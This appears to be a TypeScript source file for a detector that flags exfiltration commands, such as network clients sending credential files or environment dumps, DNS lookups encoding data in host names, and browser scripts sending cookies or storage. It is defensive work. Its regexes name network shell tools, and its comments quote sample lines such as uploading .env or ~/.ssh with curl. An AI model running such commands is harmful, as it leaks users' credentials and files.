import type { DetectorMatch } from '../../detector.js';
import { MAX_MATCHES } from './find-phrases.js';
import { matchesIn } from './regex-matches.js';
import { SENSITIVE_PATH } from './sensitive-data.js';

/**
 * Shell commands that send data out: a network client in the same command line as a credential
 * file (`curl --data-binary @.env https://...`, `tar c ~/.ssh | curl -T - ...`), an environment
 * dump piped to one, a DNS lookup whose host name carries data (`dig $(whoami).x.example`), or a
 * browser script that reads cookies or storage and makes a request.
 */

/** Where a command starts: line start, after a pipe or separator, inside `$(`, after sudo or VAR=value. */
const AT_COMMAND = String.raw`(?:^|[;&|\x60]|\$\()\s*(?:sudo\s+(?:-\S+\s+)*)?(?:[A-Za-z_]\w*=\S*\s+)*`;
const SENDER = new RegExp(
  `${AT_COMMAND}(?:curl|wget|nc|ncat|netcat|socat|scp|sftp|rsync|ftp|tftp|telnet|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\\b|\\/dev\\/(?:tcp|udp)\\/`,
  'im',
);
const ENV_DUMP = /\b(?:env|printenv|set|export\s+-p)\s*\|/;
/** Browser scripts (puppeteer, playwright) that read cookies or storage and make a request. */
const BROWSER_STORAGE = /\bdocument\.cookie\b|\b(?:localStorage|sessionStorage|indexedDB)\b/;
const BROWSER_REQUEST =
  /\bfetch\s*\(|XMLHttpRequest|sendBeacon|\.src\s*=|\bnew\s+Image\b|\baxios\b|\$\.(?:get|post|ajax)\b|window\.location\s*=|location\.href\s*=/;
const DNS_LOOKUP = new RegExp(
  `${AT_COMMAND}(?:nslookup|dig|host|drill|ping)\\s+(?:[-+]\\S+\\s+)*([^\\s;|&<>]+)`,
  'gim',
);
const DNS_TOOL = /\b(?:nslookup|dig|host|drill|ping)\b/;
const DNS_TOOL_ANY_CASE = new RegExp(DNS_TOOL.source, 'i');
/** A command line is at most this long; longer values are scripts, read line by line. */
const MAX_LINE = 4000;

/** The host name carries data: command output substituted into it, or a long encoded label. */
function hostCarriesData(host: string): boolean {
  if (/\$\(|`[^`]+`|\$\{?[A-Za-z_]/.test(host)) return true;
  return (
    host.split('.').some((label) => label.length >= 20 && /^[0-9a-f]+$/i.test(label)) ||
    host.split('.').some((label) => label.length >= 32 && /\d/.test(label) && /[a-z]/i.test(label))
  );
}

/**
 * What the whole text holds. A command or line holds a match of SENDER, BROWSER_STORAGE or
 * DNS_LOOKUP only if the whole text does (each starts at a line start, a separator or a word
 * boundary, and the pieces end at a separator or a line break), so lines skip the tests the
 * whole text failed.
 */
interface TextSigns {
  readonly sender: boolean;
  readonly dns: boolean;
  readonly browser: boolean;
}

function lineMatches(line: string, offset: number, out: DetectorMatch[], signs: TextSigns): void {
  const trimmedStart = line.length - line.trimStart().length;
  const span = { start: offset + trimmedStart, end: offset + line.trimEnd().length };
  // Judged per command (a pipeline), so `curl .../setup.sh | sh && cp .env.example .env` stays clean.
  for (const command of signs.sender ? line.split(/&&|\|\||;/) : []) {
    if (!SENDER.test(command)) continue;
    const file = SENSITIVE_PATH.exec(command);
    if (file) out.push({ ...span, detail: `network command sends ${file[0]}` });
    else if (ENV_DUMP.test(command))
      out.push({ ...span, detail: 'environment variables piped to a network command' });
    else continue;
    break;
  }
  // Front-end code reads a token for its own API; sending storage to an absolute URL is the exfil.
  if (signs.browser && BROWSER_STORAGE.test(line) && BROWSER_REQUEST.test(line) && /https?:\/\//.test(line)) {
    out.push({ ...span, detail: 'script sends browser cookies or storage' });
  }
  if (!signs.dns) return;
  for (const m of matchesIn(DNS_LOOKUP, line)) {
    if (hostCarriesData(m[1] ?? '')) out.push({ ...span, detail: 'DNS lookup with data in the host name' });
  }
}

/** Command lines in `text` that send credentials or data out. */
export function findCommandExfiltration(text: string): DetectorMatch[] {
  const sender = SENDER.test(text);
  // The gate wants a lowercase lookup tool (DNS_TOOL); DNS_LOOKUP itself ignores case, so lines
  // skip it only when no lookup tool is named in any case.
  if (!sender && !DNS_TOOL.test(text) && !BROWSER_STORAGE.test(text)) return [];
  const signs: TextSigns = {
    sender,
    dns: DNS_TOOL_ANY_CASE.test(text),
    browser: BROWSER_STORAGE.test(text),
  };
  const out: DetectorMatch[] = [];
  let offset = 0;
  for (const line of text.split('\n')) {
    if (line.length <= MAX_LINE) lineMatches(line, offset, out, signs);
    offset += line.length + 1;
    if (out.length >= MAX_MATCHES) break;
  }
  // One finding per line, even when a line both uploads a file and does a lookup.
  return out.filter((m, i) => i === 0 || m.start !== out[i - 1]?.start);
}
